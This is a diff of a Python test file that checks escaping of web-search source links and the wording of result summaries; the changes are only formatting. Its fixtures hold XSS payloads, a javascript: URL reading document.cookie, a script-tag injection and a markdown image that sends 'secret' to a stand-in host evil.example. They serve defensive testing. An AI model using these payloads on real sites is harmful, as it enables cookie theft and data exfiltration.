@@ -11,7 +11,7 @@ def test_sources_are_escaped_links_and_only_http():
         [
             {"url": "https://duckdb.org/news?a=1&b=2", "title": "News <img src=x onerror=alert(1)>"},
             {"url": "javascript:alert(document.cookie)", "title": "Click me"},
-            {"url": "https://example.org/\"><script>x</script>", "title": "![t](https://evil.example/?q=secret)"},
+            {"url": 'https://example.org/"><script>x</script>', "title": "![t](https://evil.example/?q=secret)"},
         ]
     )
     markup = bundle["text/html"]
@@ -29,7 +29,8 @@ def test_result_summaries():
     assert result_summary(web_search("q", [("https://a.example", "A")])[1]) == ("ok", "1 result")
     assert result_summary(web_search("q", [])[1]) == ("ok", "0 results")
     assert result_summary(web_search("q", error="too_many_requests")[1]) == (
-        "error", "the API reported too_many_requests",
+        "error",
+        "the API reported too_many_requests",
     )
     assert result_summary(web_fetch("https://a.example", "text", title="A page")[1]) == ("ok", "fetched: A page")
     assert result_summary(web_fetch("https://a.example", error="url_not_accessible")[1])[0] == "error"
